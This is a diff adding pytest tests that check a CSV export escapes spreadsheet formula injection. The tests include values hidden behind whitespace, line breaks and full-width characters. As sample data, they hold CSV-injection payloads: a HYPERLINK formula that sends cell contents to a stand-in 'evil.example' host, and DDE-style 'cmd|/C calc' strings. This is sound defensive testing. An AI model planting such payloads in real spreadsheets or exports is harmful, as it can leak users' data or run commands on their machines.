@@ -7,8 +7,10 @@ import datetime as dt
 import io
 from pathlib import Path
 
+import pytest
+
 from privacy_terms.data.dataset import load_dataset
-from privacy_terms.website.opendata import comparison_csv, events_csv
+from privacy_terms.website.opendata import _csv, comparison_csv, csv_cell, events_csv
 
 FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")'
 
@@ -47,3 +49,51 @@ def test_csv_cells_that_would_run_as_formulas_start_with_an_apostrophe(
         for row in table:
             for cell in row:
                 assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
+
+
+@pytest.mark.parametrize(
+    "value",
+    [
+        " =1+1",
+        "  +cmd|' /C calc'!A0",
+        '\n=HYPERLINK("https://evil.example/")',
+        "\r\n-2+3",
+        "\u3000@SUM(1+1)",  # an ideographic (full-width) space
+        "\u00a0=1+1",  # a no-break space
+        '＝HYPERLINK("https://evil.example/")',
+        "＋1+1",
+        "－2+3",
+        "＠SUM(1+1)",
+        " \n ＝1+1",
+        "﹦1+1",  # the small form of =
+    ],
+)
+def test_a_formula_behind_spaces_line_breaks_or_full_width_forms_is_still_guarded(
+    value: str,
+) -> None:
+    assert csv_cell(value) == "'" + value
+    assert rows(_csv([[value]])) == [["'" + value]]
+
+
+@pytest.mark.parametrize("value", ["Alpha Chat", " Alpha", "２０２４", "a = b", "e-mail", ""])
+def test_text_that_starts_no_formula_is_left_as_it_is(value: str) -> None:
+    assert csv_cell(value) == value
+
+
+def test_a_full_width_formula_in_the_data_reaches_the_csv_guarded(
+    valid_project: Path, today: dt.date
+) -> None:
+    alpha = valid_project / "platforms" / "alpha.yaml"
+    text = alpha.read_text(encoding="utf-8")
+    text = text.replace(
+        "\nname: Alpha Chat\n", '\nname: "＝HYPERLINK(\\"https://evil.example/\\")"\n'
+    )
+    text = text.replace(
+        "summary: Alpha Chat announces a pause.", 'summary: " ＠SUM(1+1)*cmd|/C calc!A0"'
+    )
+    alpha.write_text(text, encoding="utf-8")
+    dataset = load_dataset(valid_project, today).dataset
+    assert dataset is not None
+    comparison, events = rows(comparison_csv(dataset)), rows(events_csv(dataset))
+    assert comparison[1][1] == '\'＝HYPERLINK("https://evil.example/")'
+    assert "' ＠SUM(1+1)*cmd|/C calc!A0" in [row[5] for row in events]
